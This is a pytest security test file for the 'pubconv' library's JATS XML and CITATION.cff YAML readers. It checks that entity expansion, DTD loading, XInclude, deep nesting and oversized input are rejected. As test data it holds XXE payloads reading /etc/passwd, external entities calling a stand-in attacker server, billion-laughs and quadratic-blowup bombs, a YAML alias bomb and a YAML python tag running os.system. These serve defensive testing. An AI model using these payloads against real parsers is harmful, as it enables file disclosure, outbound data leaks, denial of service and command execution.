"""XML (and YAML) safety: the JATS reader never expands entities, never loads DTDs, external
files or network resources, and limits nesting depth and input size.

Every hostile document is read through the registry's JATS reader and through the api
(bytes, format detection). Allowed outcomes: a diagnostic (PC600 malformed, PC601 entities
declared, PC604 too large) or papers read without any expansion — never the content of
``/etc/passwd``, never a connection to the local "attacker" server, never more than a few
seconds. The CITATION.cff (YAML) equivalents run for every registered format named ``cff``.
"""

from __future__ import annotations

import io
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import pubconv
from pubconv import registry
from pubconv.formats.base import ReadResult
from pubconv.serialize import paper_to_dict

PASSWD = Path("/etc/passwd")
SLOW = 5.0


@pytest.fixture
def listener() -> Iterator[tuple[str, socket.socket]]:
    """A local TCP server standing in for an attacker's host; the test asserts nobody called it."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    host, port = server.getsockname()
    try:
        yield f"http://{host}:{port}", server
    finally:
        server.close()


def _no_connection(server: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        conn, _ = server.accept()
        conn.close()


def _secret() -> str | None:
    try:
        first = PASSWD.read_text(encoding="utf-8", errors="replace").splitlines()[0]
    except (OSError, IndexError):
        return None
    return first.split(":")[0] + ":" + first.split(":")[1] if ":" in first else first


def _text_of(result: ReadResult) -> str:
    papers = json.dumps([paper_to_dict(p) for p in result.papers], ensure_ascii=False)
    return papers + "\n".join(d.message for d in result.diagnostics)


def _read_all_ways(doc: str) -> list[ReadResult]:
    """The reader directly, the api on text (detection), and the api on UTF-8 and UTF-16 bytes."""
    jats = registry.get("jats")
    results = []
    start = time.perf_counter()
    results.append(jats.read(doc, source="evil.xml"))
    results.append(pubconv.reads(doc, "jats", source="evil.xml"))
    results.append(pubconv.read(io.BytesIO(doc.encode("utf-8")), "jats"))
    results.append(pubconv.read(io.BytesIO(doc.encode("utf-16")), "jats"))
    assert time.perf_counter() - start < SLOW
    secret = _secret()
    for result in results:
        text = _text_of(result)
        if secret is not None:
            assert secret not in text
        assert "root:" not in text
    return results


def _codes(result: ReadResult) -> list[str]:
    return [d.code for d in result.diagnostics]


CITATION = (
    '<ref id="a"><element-citation publication-type="journal">'
    "<article-title>{}</article-title><year>2001</year></element-citation></ref>"
)


def _doc(doctype: str, title: str = "Safe", extra: str = "") -> str:
    return f'<?xml version="1.0"?>\n{doctype}\n<ref-list{extra}>{CITATION.format(title)}</ref-list>\n'


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE ref-list [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE ref-list [\n  <!ENTITY  xxe  SYSTEM  "file:///etc/passwd" >\n]>',
        '<!DOCTYPE ref-list [<!entity xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE ref-list [<!ENTITY xxe PUBLIC "-//X//Y" "file:///etc/passwd">]>',
    ],
)
def test_external_file_entity_is_rejected(doctype: str) -> None:
    for result in _read_all_ways(_doc(doctype, "&xxe;")):
        assert result.papers == () or all(p.title in (None, "", "&xxe;") for p in result.papers)
        assert _codes(result)[-1:] in (["PC601"], ["PC600"])


def test_network_entities_and_dtds_are_never_fetched(listener: tuple[str, socket.socket]) -> None:
    url, server = listener
    docs = [
        _doc(f'<!DOCTYPE ref-list [<!ENTITY net SYSTEM "{url}/x">]>', "&net;"),
        _doc(f'<!DOCTYPE ref-list [<!ENTITY % p SYSTEM "{url}/evil.dtd"> %p;]>'),
        _doc(f'<!DOCTYPE ref-list SYSTEM "{url}/external.dtd">'),
        _doc(f'<!DOCTYPE ref-list PUBLIC "-//X//DTD Y//EN" "{url}/external.dtd">'),
        _doc(
            f'<!DOCTYPE ref-list [<!ATTLIST ref-list a CDATA "]"> <!ENTITY net SYSTEM "{url}/y">]>', "&net;"
        ),
        _doc(
            "<!DOCTYPE ref-list [<!-- ] -->"
            f'<!ENTITY % p SYSTEM "{url}/p.dtd"> %p; <!ENTITY net SYSTEM "{url}/z">]>',
            "&net;",
        ),
    ]
    for doc in docs:
        _read_all_ways(doc)
    _no_connection(server)


def test_external_dtd_to_a_local_file_is_not_loaded() -> None:
    doc = _doc('<!DOCTYPE ref-list SYSTEM "file:///etc/passwd">')
    for result in _read_all_ways(doc):
        assert [p.title for p in result.papers] == ["Safe"]  # the DTD is ignored, the refs are read


def test_entity_declared_after_a_bracket_in_a_quoted_string_is_not_expanded() -> None:
    """A ']' inside the internal subset must not hide a later declaration from the checks."""
    doc = _doc(
        '<!DOCTYPE ref-list [<!ATTLIST ref-list a CDATA "]"> <!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "&xxe;",
    )
    for result in _read_all_ways(doc):
        assert all("&xxe;" in (p.title or "&xxe;") or not p.title for p in result.papers)


def test_billion_laughs_is_rejected_quickly() -> None:
    decls = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    doc = _doc("<!DOCTYPE ref-list [" + "".join(decls) + "]>", "&lol9;")
    for result in _read_all_ways(doc):
        assert "PC601" in _codes(result)
        assert "lollol" not in _text_of(result)


def test_quadratic_blowup_is_rejected_quickly() -> None:
    doc = _doc(f'<!DOCTYPE ref-list [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 50_000)
    for result in _read_all_ways(doc):
        assert "PC601" in _codes(result)
        assert "x" * 1000 not in _text_of(result)


def test_xinclude_is_not_processed() -> None:
    include = '<xi:include href="file:///etc/passwd" parse="text"/>'
    doc = _doc("", include, ' xmlns:xi="http://www.w3.org/2001/XInclude"')
    for result in _read_all_ways(doc):
        assert len(result.papers) == 1


def test_undefined_entity_is_malformed_xml_not_a_lookup() -> None:
    for result in _read_all_ways(_doc("", "&undefined_entity_name;")):
        assert _codes(result) == ["PC600"]


@pytest.mark.parametrize("depth", [300, 10_000, 200_000])
def test_deep_nesting_is_limited(depth: int) -> None:
    doc = "<ref-list>" + "<x>" * depth + "</x>" * depth + "</ref-list>"
    for result in _read_all_ways(doc):
        assert _codes(result) == ["PC600"]  # libxml2's depth limit (256 without huge_tree)


def test_nesting_under_the_limit_inside_a_citation_is_read() -> None:
    inner = "<italic>" * 200 + "Deep" + "</italic>" * 200
    for result in _read_all_ways(_doc("", inner)):
        assert [p.title for p in result.papers] == ["Deep"]


def test_input_over_the_size_limit_is_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
    jats = registry.get("jats").module
    doc = _doc("", "Big " * 1000)
    monkeypatch.setattr(jats, "MAX_INPUT", 1000)
    result = registry.get("jats").read(doc, source="big.xml")
    assert _codes(result) == ["PC604"] and result.papers == ()


def test_real_size_limit() -> None:
    jats = registry.get("jats").module
    start = time.perf_counter()
    result = registry.get("jats").read("<" + "x" * jats.MAX_INPUT, source="huge.xml")
    assert _codes(result) == ["PC604"]
    assert time.perf_counter() - start < SLOW


# ------------------------------------------------------------------------------------- YAML (CFF)

YAML_FORMATS = [f.name for f in registry.all_formats() if f.name == "cff" and f.can_read]

ALIAS_BOMB = (
    "cff-version: 1.2.0\nmessage: x\ntitle: t\n"
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
    "authors:\n  - family-names: Doe\n    given-names: *i\n"
)

PYTHON_TAGS = (
    "cff-version: 1.2.0\nmessage: x\ntitle: !!python/object/apply:os.system ['touch /tmp/pubconv-pwned']\n"
    "authors:\n  - family-names: !!python/name:os.system\n"
)


@pytest.mark.parametrize("fmt_name", YAML_FORMATS)
@pytest.mark.parametrize("doc", [ALIAS_BOMB, PYTHON_TAGS], ids=["alias-bomb", "python-tags"])
def test_yaml_bombs_and_tags_are_harmless(fmt_name: str, doc: str) -> None:
    start = time.perf_counter()
    try:
        result = registry.get(fmt_name).read(doc, source="CITATION.cff")
    except pubconv.PubconvError:
        result = None
    assert time.perf_counter() - start < SLOW
    assert not Path("/tmp/pubconv-pwned").exists()
    if result is not None:
        assert len(_text_of(result)) < 100_000


def test_yaml_formats_are_found_in_the_registry_when_registered() -> None:
    if not YAML_FORMATS:
        pytest.skip("no 'cff' format registered yet; the YAML cases run once it is")
    assert YAML_FORMATS == ["cff"]
